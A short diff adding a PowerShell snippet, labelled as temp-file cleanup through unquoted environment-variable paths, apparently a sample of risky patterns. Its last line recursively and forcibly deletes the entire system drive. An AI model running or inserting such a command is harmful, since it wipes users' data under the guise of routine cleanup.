@@ -0,0 +1,5 @@
+# Clears temporary files through unquoted paths built on environment variables
+Remove-Item $env:windir\Temp\*.tmp -Force
+Remove-Item $env:SystemDrive\Users\Public\Downloads\build -Recurse
+Remove-Item -Path $env:TEMP\please-*.log
+Remove-Item $env:SystemDrive\* -Recurse -Force